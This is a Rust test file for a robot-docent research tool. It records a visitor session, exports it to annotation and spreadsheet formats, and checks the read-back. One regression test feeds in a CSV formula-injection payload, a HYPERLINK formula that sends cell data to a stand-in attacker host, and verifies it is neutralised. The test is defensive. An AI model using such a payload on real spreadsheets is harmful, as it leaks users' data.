//! A real visitor session exported to ELAN EAF, Praat TextGrid, CSV and JSON Lines, then read
//! back with the tools researchers use (pympi-ling; praatio and Praat itself through
//! praat-parselmouth; Python's csv module: `tests/readers/check_exports.py`, in the virtualenv
//! `scripts/install-test-deps.sh` makes) and compared with the session's log tier by tier,
//! time by time, text by text. The expectations are worked out here from the log's lines, not
//! from the exporter's model. Also: what a researcher is told about a session that cannot be
//! exported as it is.

use crate::common;

#[path = "corpus_export/coded.rs"]
mod coded;
#[path = "corpus_export/damaged.rs"]
mod damaged;
#[path = "corpus_export/expected.rs"]
mod expected;
#[path = "corpus_export/fixture.rs"]
mod fixture;
#[path = "../bench/export_session.rs"]
mod generated;
#[path = "corpus_export/mcap.rs"]
mod mcap;
#[path = "corpus_export/mcap_cases.rs"]
mod mcap_cases;
#[path = "corpus_export/media.rs"]
mod media;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

use common::{TempBundle, TestServer, WsClient, repo};
use docent::corpus::annotations::{ANNOTATIONS_FILE, Draft, Edit, append};
use docent::corpus::export::{ExportError, ExportFormat, ExportWarning, export_session};
use docent::corpus::layout::{SESSION_EVENTS, SESSIONS_DIR};
use expected::assert_reads_back;
use mcap::{assert_mcap_reads_back, read_mcap};
use serde_json::{Value, json};

const ACTS: &str = r#"
- Label: WELCOME
  Text: ['Hello, "friends": welcome to the café!']
- Label: TOUR
  Text: ['Follow me, please']
  Cmds: [SET_WAYPOINT 1 0, DRIVE_START, DISPLAY_PAGE about.html]
- Label: GOODBYE
  Text: [Goodbye]
- Label: LATER
  Text: [Not said in this session]
"#;

const CONFIG: &str = "speech: {adapter: log, rate: 600}\ndrive: {speed: 2, pose_rate: 10, \
                      bounds: {min_x: 0, min_y: 0, max_x: 20, max_y: 12}}\n\
                      operator: {situations: [question, laughter]}\n";

fn bundle() -> TempBundle {
    TempBundle::new(ACTS)
        .with_file("docent.yaml", CONFIG)
        .with_file(
            "pages/index.html",
            r#"<!doctype html><title>home</title><button data-act="WELCOME">Hello</button>
               <button data-act="LATER">Later</button><a href="about.html">About</a>"#,
        )
        .with_file(
            "pages/about.html",
            r#"<!doctype html><title>about</title><a href="index.html">Home</a>"#,
        )
}

/// The Python of the readers' virtualenv.
fn readers_python() -> PathBuf {
    let python = repo().join("tests/readers/.venv/bin/python");
    assert!(
        python.is_file(),
        "{} is missing: run scripts/install-test-deps.sh, which installs the readers this \
         test reads the exports back with (pympi-ling, praatio, praat-parselmouth)",
        python.display()
    );
    python
}

/// Reads back the exports `NAME.*` in `dir` with the researchers' tools.
pub fn read_back(dir: &Path, name: &str) -> Value {
    let output = Command::new(readers_python())
        .arg(repo().join("tests/readers/check_exports.py"))
        .arg(dir)
        .arg(name)
        .output()
        .expect("python runs");
    assert!(
        output.status.success(),
        "check_exports.py failed:\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    serde_json::from_slice(&output.stdout).expect("a JSON summary")
}

/// Waits until every command in `ids` has its outcome.
async fn until_ended(op: &mut WsClient, ids: &[u64]) {
    let mut open: BTreeSet<u64> = ids.iter().copied().collect();
    while !open.is_empty() {
        let event = op
            .event_where(|e| {
                e["type"]
                    .as_str()
                    .is_some_and(|t| t.starts_with("command."))
            })
            .await;
        let id = event["command"].as_u64().unwrap();
        match event["type"].as_str() {
            Some("command.done") => drop(open.remove(&id)),
            Some("command.failed" | "command.cancelled") if open.contains(&id) => {
                panic!("the session did not go as planned: {event}")
            }
            _ => {}
        }
    }
}

fn command_ids(triggered: &Value) -> Vec<u64> {
    (triggered["commands"].as_array().unwrap().iter())
        .map(|c| c["id"].as_u64().unwrap())
        .collect()
}

/// A session recorded on a real server: a tour with speech, a drive and a page at once, a
/// visitor's page and tap on the kiosk, a group and a situation marked. Returns the session's
/// folder (in `corpus`).
async fn record_session(b: &TempBundle, corpus: &Path) -> PathBuf {
    let server = TestServer::start_with(b.path(), |o| o.corpus_dir = corpus.into()).await;
    let mut op = server.operator().await;
    let mut kiosk = server
        .client(json!({"type": "hello", "role": "kiosk"}))
        .await;
    op.send(json!({"type": "mark", "mark": "session_start"}))
        .await;
    op.recv_type("marked").await;
    op.send(json!({"type": "mark", "mark": "group", "value": "children"}))
        .await;
    op.recv_type("marked").await;
    op.send(json!({"type": "trigger", "label": "TOUR"})).await;
    let tour = command_ids(&op.recv_type("triggered").await);
    let page = kiosk.recv_type("command").await;
    kiosk.send(json!({"type": "done", "id": page["id"]})).await;
    until_ended(&mut op, &tour).await;
    // The visitor follows the page's link home, then taps WELCOME there.
    kiosk
        .send(json!({"type": "page", "page": "index.html"}))
        .await;
    op.event_where(|e| e["type"] == "display.changed" && e["page"] == "index.html")
        .await;
    kiosk
        .send(json!({"type": "trigger", "label": "WELCOME"}))
        .await;
    let welcome = command_ids(&kiosk.recv_type("triggered").await);
    until_ended(&mut op, &welcome).await;
    op.send(json!({"type": "mark", "mark": "situation", "value": "question"}))
        .await;
    op.recv_type("marked").await;
    op.send(json!({"type": "mark", "mark": "note", "value": "she asks \"why\"; he laughs"}))
        .await;
    op.recv_type("marked").await;
    op.send(json!({"type": "trigger", "label": "GOODBYE"}))
        .await;
    let goodbye = command_ids(&op.recv_type("triggered").await);
    until_ended(&mut op, &goodbye).await;
    op.send(json!({"type": "mark", "mark": "session_end"}))
        .await;
    op.recv_type("marked").await;
    server.stop().await;
    let sessions: Vec<PathBuf> = std::fs::read_dir(corpus.join(SESSIONS_DIR))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(sessions.len(), 1, "{sessions:?}");
    sessions.into_iter().next().unwrap()
}

/// Researchers' annotations of `session`: two overlapping intervals and a point of the
/// codebook's `situation`, one deleted, one changed, and one of a tier since taken out of the
/// codebook.
fn annotate(session: &Path) {
    let draft = |tier: &str, code: &str, start_us, end_us| {
        let (tier, code, annotator) = (tier.to_owned(), code.to_owned(), None);
        Draft {
            tier,
            code,
            start_us,
            end_us,
            annotator,
        }
    };
    let edits = [
        Edit::Add(draft("situation", "question", 1_000, 40_000)),
        Edit::Add(draft("situation", "laughter", 20_000, 30_500)),
        Edit::Add(draft("situation", "question", 12_345, 12_345)),
        Edit::Add(draft("situation", "laughter", 5_000, 6_000)),
        Edit::Delete("a4".into()),
        Edit::Add(draft("mood", "cheerful", 2_000, 3_000)),
        Edit::Change("a2".into(), draft("situation", "laughter", 20_000, 31_000)),
    ];
    for edit in edits {
        append(session, edit, "2026-11-24T12:00:00Z".into()).unwrap();
    }
}

fn log_lines(session: &Path) -> Vec<Value> {
    common::json_lines(&session.join(SESSION_EVENTS))
}

/// Reads `NAME.mcap` in `out` back and compares it with the session's log and manifest.
fn assert_mcap_matches(session: &Path, out: &Path, name: &str) -> Value {
    let read = read_mcap(&out.join(format!("{name}.mcap")));
    let text = std::fs::read_to_string(session.join(SESSION_EVENTS)).unwrap();
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(session.join("session.json")).unwrap()).unwrap();
    let annotations = match session.join(ANNOTATIONS_FILE) {
        file if file.is_file() => common::json_lines(&file),
        _ => Vec::new(),
    };
    assert_mcap_reads_back(&log_lines(session), &text, &manifest, &annotations, &read);
    read
}

#[tokio::test]
async fn a_recorded_session_reads_back_the_same_in_elan_praat_and_a_spreadsheet() {
    let b = bundle();
    let corpus = tempfile::tempdir().unwrap();
    let session = record_session(&b, corpus.path()).await;
    let name = session.file_name().unwrap().to_str().unwrap().to_owned();
    annotate(&session);
    let out = tempfile::tempdir().unwrap();
    for format in ExportFormat::ALL {
        let exported = export_session(&session, format, out.path()).unwrap();
        let mut files = vec![out.path().join(format!("{name}.{}", format.extension()))];
        if format == ExportFormat::Jsonl {
            files.push(out.path().join(format!("{name}.annotations.jsonl")));
        }
        assert_eq!(exported.files, files, "{format}");
        assert_eq!(exported.warnings, [], "{format}");
    }
    let annotations = common::json_lines(&session.join(ANNOTATIONS_FILE));
    let live = common::json_lines(&out.path().join(format!("{name}.annotations.jsonl")));
    assert_eq!(live.len(), 4, "the deleted one is gone: {live:?}");
    let copy = std::fs::read(out.path().join(format!("{name}.jsonl"))).unwrap();
    assert_eq!(copy, std::fs::read(session.join(SESSION_EVENTS)).unwrap());

    let log = log_lines(&session);
    let read = read_back(out.path(), &name);
    assert_eq!(
        read["problems"],
        json!([]),
        "what the readers found or let pass"
    );

    let want = assert_reads_back(&log, &coded::coded(&["situation"], &annotations), &read);
    for tier in ["situation", "situation-2", "situation-points", "mood"] {
        let read = read["eaf"]["tiers"][tier].as_array();
        assert!(
            read.is_some_and(|r| !r.is_empty()),
            "{tier} has annotations"
        );
    }

    // The session as it was played.
    let said: Vec<&str> = want.speech.iter().map(|u| u.text.as_str()).collect();
    let welcome = "Hello, \"friends\": welcome to the café!";
    assert_eq!(said, ["Follow me, please", welcome, "Goodbye"]);
    let touched: Vec<&str> = want.touches.iter().map(|t| t.1.as_str()).collect();
    assert_eq!(touched, ["page: index.html", "WELCOME"]);
    let commands = read["eaf"]["order"].as_array().unwrap();
    assert!(
        commands.contains(&json!("commands-2")),
        "the drive and the page overlap: {commands:?}"
    );
    // The act labels' entries (`cveid_N`; a codebook tier's are `cveid_TIER_N`).
    let acts = |id: &str| {
        id.strip_prefix("cveid_")
            .is_some_and(|n| n.parse::<u32>().is_ok())
    };
    let vocabulary: BTreeSet<&str> = (read["eaf"]["vocabulary"].as_object().unwrap().iter())
        .filter(|(id, _)| acts(id))
        .map(|(_, v)| v.as_str().unwrap())
        .collect();
    assert_eq!(
        vocabulary,
        BTreeSet::from(["GOODBYE", "LATER", "TOUR", "WELCOME"]),
        "the bundle's labels, the unused too"
    );

    // Foxglove's reader: the drive's poses and the tour's page are there too.
    let read = assert_mcap_matches(&session, out.path(), &name);
    let poses = read["channels"]["/docent/pose"]["messages"]
        .as_array()
        .unwrap();
    assert!(poses.len() > 2, "the drive moved: {poses:?}");
    let coded = &read["channels"]["/docent/annotations"]["messages"];
    assert_eq!(
        coded.as_array().map(Vec::len),
        Some(live.len()),
        "every live annotation on /docent/annotations"
    );
}

#[tokio::test]
async fn a_session_being_recorded_is_refused_and_exports_once_it_has_ended() {
    let b = bundle();
    let corpus = tempfile::tempdir().unwrap();
    let server = TestServer::start_with(b.path(), |o| o.corpus_dir = corpus.path().into()).await;
    let mut op = server.operator().await;
    op.send(json!({"type": "mark", "mark": "session_start"}))
        .await;
    op.recv_type("marked").await;
    let sessions = corpus.path().join(SESSIONS_DIR);
    let session = std::fs::read_dir(&sessions)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let name = session.file_name().unwrap().to_str().unwrap().to_owned();
    let out = tempfile::tempdir().unwrap();
    let refused = export_session(&session, ExportFormat::Eaf, out.path()).unwrap_err();
    assert!(
        matches!(&refused, ExportError::Recording(n) if *n == name),
        "{refused:?}"
    );
    assert_eq!(
        refused.to_string(),
        format!(
            "session {name} is still being recorded: a running Docent is writing its log. End \
             the session first (the console's session button, a dialog manager's \
             `session_end` mark, or stopping the server), then export it"
        )
    );
    assert_eq!(
        std::fs::read_dir(out.path()).unwrap().count(),
        0,
        "nothing written"
    );
    // Ended, but the file still open (and locked) until the next line goes elsewhere: its end
    // in the log is what counts.
    op.send(json!({"type": "mark", "mark": "session_end"}))
        .await;
    op.recv_type("marked").await;
    let exported = export_session(&session, ExportFormat::Csv, out.path()).unwrap();
    assert_eq!(exported.warnings, []);
    server.stop().await;
}

#[test]
fn a_generated_hour_with_overlapping_commands_reads_back_the_same_too() {
    let corpus = tempfile::tempdir().unwrap();
    let session = corpus.path().join(SESSIONS_DIR).join(generated::NAME);
    generated::write_session(&session, 3600, None).unwrap();
    let out = tempfile::tempdir().unwrap();
    let no_bundle = "the session's manifest names no bundle".to_owned();
    for format in ExportFormat::ALL {
        let exported = export_session(&session, format, out.path()).unwrap();
        let told = [ExportWarning::VocabularyFromSessionOnly(no_bundle.clone())];
        assert_eq!(exported.warnings, told, "{format}");
    }
    let read = read_back(out.path(), generated::NAME);
    let none = coded::coded(&[], &[]);
    let want = assert_reads_back(&log_lines(&session), &none, &read);
    assert_eq!(
        (want.speech.len(), want.commands.len(), want.touches.len()),
        (360, 282, 220),
        "an utterance every 10 s; pages, lights and waits; taps and pages followed"
    );
    let order = read["eaf"]["order"].as_array().unwrap();
    assert!(order.contains(&json!("commands-3")), "{order:?}");
    let read = assert_mcap_matches(&session, out.path(), generated::NAME);
    let poses = read["channels"]["/docent/pose"]["messages"]
        .as_array()
        .unwrap();
    assert_eq!(poses.len(), 18_000, "5 a second");
}

/// Regression (issue 24): a kiosk's refused label such as `=HYPERLINK(...)` went raw into the
/// CSV, where a spreadsheet opening the export ran it as a formula.
#[tokio::test]
async fn a_kiosk_label_that_is_a_formula_is_neutralised_in_the_csv() {
    let b = bundle();
    let corpus = tempfile::tempdir().unwrap();
    let server = TestServer::start_with(b.path(), |o| o.corpus_dir = corpus.path().into()).await;
    let mut op = server.operator().await;
    let mut kiosk = server
        .client(json!({"type": "hello", "role": "kiosk"}))
        .await;
    op.send(json!({"type": "mark", "mark": "session_start"}))
        .await;
    op.recv_type("marked").await;
    let formula = r#"=HYPERLINK("http://attacker.invalid/?d="&A1,"Click")"#;
    for label in [formula, "@SUM(1+1)", "-2+3"] {
        kiosk.send(json!({"type": "trigger", "label": label})).await;
        kiosk.recv_type("error").await;
        op.event("trigger.refused").await;
    }
    op.send(json!({"type": "mark", "mark": "session_end"}))
        .await;
    op.recv_type("marked").await;
    server.stop().await;
    let session = std::fs::read_dir(corpus.path().join(SESSIONS_DIR))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let name = session.file_name().unwrap().to_str().unwrap().to_owned();
    let out = tempfile::tempdir().unwrap();
    export_session(&session, ExportFormat::Csv, out.path()).unwrap();
    let mut reader = csv::Reader::from_path(out.path().join(format!("{name}.csv"))).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let acts: Vec<&str> = (rows.iter())
        .filter(|r| &r[7] == "touch")
        .map(|r| &r[3])
        .collect();
    assert_eq!(
        acts,
        [format!("'{formula}"), "'@SUM(1+1)".into(), "'-2+3".into()],
        "each refused label with a quote before it"
    );
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would run {cell:?}"
            );
        }
    }
}
